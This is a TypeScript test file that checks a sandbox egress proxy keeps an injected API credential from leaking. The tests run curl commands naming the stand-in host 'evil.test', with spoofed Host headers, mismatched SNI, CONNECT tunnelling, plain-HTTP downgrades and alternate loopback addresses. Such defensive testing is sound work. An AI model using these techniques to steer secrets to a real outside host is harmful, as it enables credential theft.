/**
 * Issue 19, items 3, 4 and 10 and the address blocklist, end to end: the built CLI with an
 * `--egress-header` rule, and curl run inside a real host (bubblewrap) and Docker computer over MCP
 * stdio — with the server run as root and as an unprivileged user (HostServer.ts: a uid with no
 * account through `setpriv`; on Docker in the engine socket's group). The proxy runs in the server,
 * so each pass proves the path from a guest to a server of that privilege; the proxy's variants are
 * in the other egress-* files. Upstreams are local servers on 127.0.0.1 (EgressRig.ts), run by the
 * test; names are pinned with --egress-resolve.
 */
import { Effect, Exit, Scope } from "effect"
import { chmodSync, chownSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { afterAll, assert, beforeAll, it } from "vitest"
import { COMPUTER_IMAGE, engineWorks, TEST_ENGINE } from "../support/Docker.js"
import { describeIf } from "../support/Requirements.js"
import { holdsToken, SECRET, startUpstreams, TOKEN, type Upstreams } from "./EgressRig.js"
import { dockerUnprivileged, type HostServer, type Mode, modes, requirements, requirementsMet, runningAsRoot, startHostServer, UNPRIVILEGED } from "./HostServer.js"

interface Exec {
  readonly stdout: string
  readonly stderr: string
  readonly exit_code: number
}

interface Target {
  readonly backend: "host" | "docker"
  readonly mode: Mode
  readonly name: string
  readonly args: ReadonlyArray<string>
}

const server = (mode: Mode) => (mode === "root" ? "root" : "an unprivileged user")
const dockerArgs = ["--engine", TEST_ENGINE, "--image", COMPUTER_IMAGE]
const dockerAvailable = engineWorks(TEST_ENGINE, COMPUTER_IMAGE)

/**
 * Host as root and as an unprivileged user; Docker as root and, where the engine's socket has a
 * group (Docker's `docker` group; always under CI=true), as an unprivileged user in it.
 */
const targets: ReadonlyArray<Target> = [
  ...modes.map((mode): Target => ({ backend: "host", mode, name: `host, server run as ${server(mode)}`, args: [] })),
  ...modes.filter((mode) => mode === "root" || (TEST_ENGINE === "docker" && dockerUnprivileged)).map((mode): Target => ({
    backend: "docker",
    mode,
    name: `docker, server run as ${server(mode)}`,
    args: dockerArgs
  }))
]

describeIf(requirementsMet, requirements)("a credential attacked from inside a computer", () => {
  for (const target of targets) {
    const available = target.backend === "host" || dockerAvailable
    describeIf(available, `a ${TEST_ENGINE} engine with the computer image ${COMPUTER_IMAGE}`)(target.name, () => {
      const dir = mkdtempSync(join(tmpdir(), `kt-credential-${target.backend}-`))
      // The server (perhaps unprivileged) reads the upstreams' CA here and writes its audit log beside it.
      chmodSync(dir, 0o755)
      const logs = join(dir, "logs")
      const auditPath = join(logs, "audit.jsonl")
      const scope = Effect.runSync(Scope.make())
      let upstreams: Upstreams
      let host: HostServer
      let api: string

      const exec = async (command: string): Promise<Exec> => {
        const result = await host.call("sandbox_exec", { command, timeout: 60 })
        assert.isFalse(result.isError, result.text)
        assert.isFalse(holdsToken(result.text), `a tool result carries the credential: ${result.text}`)
        return result.structured as Exec
      }
      const carried = () => upstreams.seen.filter((seen) => holdsToken(JSON.stringify(seen.headers)))

      beforeAll(async () => {
        mkdirSync(logs, { mode: 0o700 })
        if (target.mode === "unprivileged" && runningAsRoot) chownSync(logs, UNPRIVILEGED, UNPRIVILEGED)
        upstreams = await Effect.runPromise(Scope.extend(startUpstreams(dir), scope))
        api = `api.test:${upstreams.httpsPort}`
        host = await startHostServer(target.mode, [
          ...target.args,
          "--allow-host", "*",
          "--egress-resolve", "api.test=127.0.0.1",
          "--egress-resolve", "evil.test=127.0.0.1",
          "--egress-ca-file", upstreams.caFile,
          "--egress-header", "api.test:Authorization=KT_TEST_CREDENTIAL",
          "--audit-log", auditPath
        ], target.backend, undefined, { KT_TEST_CREDENTIAL: SECRET })
        const ready = await exec("echo ready; id -u")
        assert.strictEqual(ready.stdout.split("\n")[0], "ready", `${ready.stdout}${ready.stderr}\n${host.stderr()}`)
      }, 240_000)

      afterAll(async () => {
        await host?.close()
        await Effect.runPromise(Scope.close(scope, Exit.void))
        rmSync(dir, { recursive: true, force: true })
      }, 60_000)

      it("the credential reaches its own host, and a Host naming another host gets a 421 and sends nothing", async () => {
        const own = await exec(`curl -sS https://${api}/echo`)
        assert.strictEqual(own.exit_code, 0, own.stderr)
        assert.deepStrictEqual(carried().map((seen) => [seen.scheme, seen.url, seen.headers.host, seen.servername]), [["https", "/echo", api, "api.test"]])
        assert.strictEqual(carried()[0]!.headers.authorization, SECRET)
        const before = upstreams.seen.length
        for (const named of ["evil.test", `evil.test:${upstreams.httpsPort}`, "api.test:1"]) {
          const other = await exec(`curl -sS -i -H 'Host: ${named}' https://${api}/echo`)
          assert.match(other.stdout, /^HTTP\/1\.1 421 Misdirected Request/m, named)
          assert.include(other.stdout, "the Host header names ", named)
        }
        assert.strictEqual(upstreams.seen.length, before, "no misdirected request went upstream, with or without the secret")
      }, 120_000)

      it("a TLS server name (SNI) naming another host than the CONNECT target gets a 421 and sends nothing", async () => {
        const before = upstreams.seen.length
        // CONNECT api.test, then TLS and Host for evil.test: the proxy intercepts for api.test's rule and refuses.
        const sni = await exec(`curl -sS -i -k --connect-to evil.test:${upstreams.httpsPort}:api.test:${upstreams.httpsPort} https://evil.test:${upstreams.httpsPort}/echo`)
        assert.match(sni.stdout, /^HTTP\/1\.1 421 Misdirected Request/m, `${sni.stdout}${sni.stderr}`)
        assert.include(sni.stdout, `the TLS server name (SNI) is "evil.test"`)
        assert.strictEqual(upstreams.seen.length, before)
      }, 120_000)

      it("a CONNECT to another host carrying the rule's host in SNI and Host is tunnelled untouched: no credential", async () => {
        const before = upstreams.seen.length
        const tunnelled = await exec(`curl -sS -k --connect-to api.test:${upstreams.httpsPort}:evil.test:${upstreams.httpsPort} https://${api}/echo`)
        assert.strictEqual(tunnelled.exit_code, 0, tunnelled.stderr)
        const reached = upstreams.seen.slice(before)
        assert.deepStrictEqual(reached.map((seen) => [seen.url, seen.servername]), [["/echo", "api.test"]])
        assert.isUndefined(reached[0]!.headers.authorization, "the tunnel to evil.test carried no credential")
        assert.isFalse(holdsToken(JSON.stringify(reached)))
      }, 120_000)

      it("plain HTTP to the credential's host, with any Host, and an https→http redirect to it, are refused and send nothing", async () => {
        const plainSeen = () => upstreams.seen.filter((seen) => seen.scheme === "http").length
        const before = plainSeen()
        for (const extra of ["", "-H 'Host: evil.test'"]) {
          const plain = await exec(`curl -sS -i ${extra} http://api.test:${upstreams.httpPort}/echo`)
          assert.match(plain.stdout, /^HTTP\/1\.1 403 Forbidden/m, extra)
          assert.include(plain.stdout, "its credential is sent only over HTTPS", extra)
        }
        const redirect = await exec(`curl -sS -L -i https://${api}/redirect-http`)
        assert.match(redirect.stdout, /^HTTP\/1\.1 302 /m, "the redirect itself came back")
        assert.match(redirect.stdout, /^HTTP\/1\.1 403 Forbidden/m, "its plain-HTTP target was refused")
        assert.strictEqual(plainSeen(), before, "the plain-HTTP upstream saw nothing")
        const other = await exec(`curl -sS -H 'Host: api.test' http://evil.test:${upstreams.httpPort}/echo`)
        assert.strictEqual(JSON.parse(other.stdout).headers.host, `evil.test:${upstreams.httpPort}`, "plain HTTP elsewhere goes with its URL's Host")
        assert.isTrue(upstreams.seen.filter((seen) => seen.scheme === "http").every((seen) => seen.headers.authorization === undefined))
      }, 120_000)

      it("echoes of the credential come back masked: with and without its prefix, in any case, streamed or compressed", async () => {
        const reflected = await exec(`curl -sS -i https://${api}/reflect`)
        assert.strictEqual(reflected.exit_code, 0, reflected.stderr)
        assert.match(reflected.stdout, /^HTTP\/1\.1 200 OK \*+\r$/m)
        for (const form of ["full", "bare", "upper", "lower", "mixed"]) assert.match(reflected.stdout, new RegExp(`^${form}=\\*+$`, "m"), form)
        assert.include(reflected.stdout, `x-bare: ${"*".repeat(TOKEN.length)}`)
        for (const path of ["/stream?size=3", "/gzip"]) {
          const echoed = await exec(`curl -sS --compressed https://${api}${path}`)
          assert.strictEqual(echoed.exit_code, 0, echoed.stderr)
          assert.include(echoed.stdout, `full=${"*".repeat(SECRET.length)}\nbare=${"*".repeat(TOKEN.length)}\n`, path)
        }
        assert.isTrue(upstreams.seen.some((seen) => seen.url === "/reflect" && seen.headers.authorization === SECRET), "the upstream did get it")
      }, 120_000)

      it("an IPv4-compatible or IPv4-translated spelling of loopback is refused under '*'", async () => {
        for (const address of ["::127.0.0.1", "::ffff:0:7f00:1"]) {
          const refused = await exec(`curl -sS -i 'http://[${address}]:${upstreams.httpPort}/'`)
          assert.match(refused.stdout, /^HTTP\/1\.1 403 /m, address)
          assert.include(refused.stdout, "is not a public address", address)
        }
      }, 60_000)

      it("the audit log records each refusal as denied, and never the credential", async () => {
        await new Promise((resolve) => setTimeout(resolve, 500))
        const text = readFileSync(auditPath, "utf8")
        assert.isFalse(holdsToken(text))
        const egress = text.trim().split("\n").map((line) => JSON.parse(line) as Record<string, any>).filter((entry) => entry.type === "egress")
        const denied = (status: number, pattern: RegExp) =>
          egress.filter((entry) => entry.status === status && entry.decision === "denied" && pattern.test(String(entry.rule))).length
        assert.strictEqual(denied(421, /Host header names /), 3, JSON.stringify(egress))
        assert.strictEqual(denied(421, /SNI\) is "evil\.test"/), 1)
        assert.strictEqual(denied(403, /only over HTTPS/), 3)
      }, 60_000)
    })
  }
})
